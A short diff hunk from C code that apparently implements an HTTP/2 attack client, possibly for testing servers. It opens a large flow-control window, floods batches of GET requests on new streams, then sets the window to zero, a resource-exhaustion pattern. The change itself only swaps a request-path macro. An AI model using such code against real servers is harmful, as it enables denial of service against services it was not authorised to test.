@@ -156,7 +156,7 @@ static void ask_for_more_than_fits(struct attacker *attacker, int fd)
     frame32(&out, WINDOW_UPDATE, 0, 1u << 30);
     for (unsigned round = 0; round < 100 && open; round++) {
         for (unsigned i = 0; i < (round == 0 ? 100 : 15); i++, stream += 2)
-            request(&out, "GET", "/" ATTACK_KEY_MIDDLE, END_STREAM | END_HEADERS, stream);
+            request(&out, "GET", "/" ATTACK_KEY_FRAME, END_STREAM | END_HEADERS, stream);
         push(attacker, fd, &out, true);
         usleep(round == 0 ? 50000 : 5000);
         window_setting(&out, 0);
